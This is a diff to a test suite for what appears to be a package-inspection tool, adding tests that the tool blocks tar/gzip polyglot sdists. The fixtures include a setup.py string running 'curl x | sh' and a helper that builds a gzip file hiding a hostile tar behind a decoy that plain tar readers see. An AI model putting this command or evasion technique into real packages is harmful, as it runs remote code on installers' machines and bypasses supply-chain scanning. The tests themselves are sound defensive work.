@@ -12,6 +12,7 @@ import lzma
 import tarfile
 import tracemalloc
 import zipfile
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -182,4 +183,82 @@ def test_a_tar_sdist_that_also_reads_as_a_zip_is_blocked(tmp_path: Path, suffix:
     zipped = build_sdist("demo", "1.0", suffix=".zip", modules={"setup.py": "import os\n"})
     inspection = inspect_at(tmp_path, sdist.filename, sdist.data + zipped.data)
     assert "archive-polyglot" in rules(inspection)
+    assert verdict(inspection) is Action.BLOCK
+
+
+# -- a plain .tar whose bytes are compressed ---------------------------------------------------
+SETUP_SHELL = "import os\nfrom setuptools import setup\nos.system('curl x | sh')\nsetup()\n"
+
+
+def _gzip_hiding_a_decoy(decoy: bytes, payload: bytes) -> bytes:
+    """A gzip stream of ``payload`` whose header's FEXTRA field holds the tar ``decoy``.
+
+    The gzip header is the start of the decoy's first block: a pax header, whose name
+    field tar readers ignore, so the same bytes read as the decoy when read as a plain tar.
+    """
+    extra_length = len(decoy) - 12  # the gzip header's fixed part and XLEN fill 12 bytes
+    header = b"\x1f\x8b\x08\x04" + b"demo" + b"\x00\x03" + extra_length.to_bytes(2, "little")
+    first = bytearray(decoy[:512])
+    assert first[156:157] == b"x", "the decoy must start with a pax header"
+    first[: len(header)] = header
+    first[148:156] = b" " * 8
+    first[148:156] = b"%06o\x00 " % sum(first)
+    squeezer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    deflated = squeezer.compress(payload) + squeezer.flush()
+    trailer = zlib.crc32(payload).to_bytes(4, "little") + len(payload).to_bytes(4, "little")
+    return bytes(first) + decoy[512:] + deflated + trailer
+
+
+def _tar_with_pax_first(dist: Dist) -> bytes:
+    """``dist``'s members again as a pax tar whose first block is a pax header."""
+    buffer = io.BytesIO()
+    with (
+        tarfile.open(fileobj=io.BytesIO(dist.data), mode="r:gz") as source,
+        tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out,
+    ):
+        for number, member in enumerate(source.getmembers()):
+            if number == 0:
+                member.pax_headers = {"comment": "decoy"}
+            out.addfile(member, source.extractfile(member))
+    return buffer.getvalue()
+
+
+def test_a_tar_hiding_a_compressed_tar_from_a_plain_reading_is_blocked(tmp_path: Path) -> None:
+    decoy = _tar_with_pax_first(build_sdist("demo", "1.0"))
+    hostile = build_sdist("demo", "1.0", modules={"setup.py": SETUP_SHELL})
+    with gzip.open(io.BytesIO(hostile.data)) as unpacked:
+        payload = unpacked.read()
+    path = tmp_path / "demo-1.0.tar"
+    path.write_bytes(_gzip_hiding_a_decoy(decoy, payload))
+    # pip opens a .tar with tarfile's "r" (compressions first, plain tar last): the payload.
+    with tarfile.open(path, "r") as as_pip_reads:
+        setup_py = as_pip_reads.extractfile("demo-1.0/setup.py")
+        assert setup_py is not None and b"curl" in setup_py.read()
+    with tarfile.open(path, "r:") as as_plain_tar:  # the decoy, with no setup.py at all
+        assert "demo-1.0/setup.py" not in as_plain_tar.getnames()
+        assert "demo-1.0/PKG-INFO" in as_plain_tar.getnames()
+    inspection = inspect_file(path, path.name, None)
+    assert "archive-polyglot" in rules(inspection), inspection.findings
+    assert verdict(inspection) is Action.BLOCK
+
+
+def _lzma_alone(data: bytes) -> bytes:
+    return lzma.compress(data, format=lzma.FORMAT_ALONE)
+
+
+def _zstd_frame(data: bytes) -> bytes:
+    # Python 3.14's tarfile tries zstd too; the mirror needs no zstd codec to see the magic.
+    return b"\x28\xb5\x2f\xfd" + bytes(16)
+
+
+@pytest.mark.parametrize(
+    "compress",
+    [_gzip, bz2.compress, _xz, _lzma_alone, _zstd_frame],
+    ids=["gzip", "bzip2", "xz", "lzma", "zstd"],
+)
+def test_a_tar_whose_bytes_are_compressed_is_blocked(tmp_path: Path, compress: Compressor) -> None:
+    with gzip.open(io.BytesIO(build_sdist("demo", "1.0").data)) as unpacked:
+        plain = unpacked.read()
+    inspection = inspect_at(tmp_path, "demo-1.0.tar", compress(plain))
+    assert "archive-polyglot" in rules(inspection), inspection.findings
     assert verdict(inspection) is Action.BLOCK
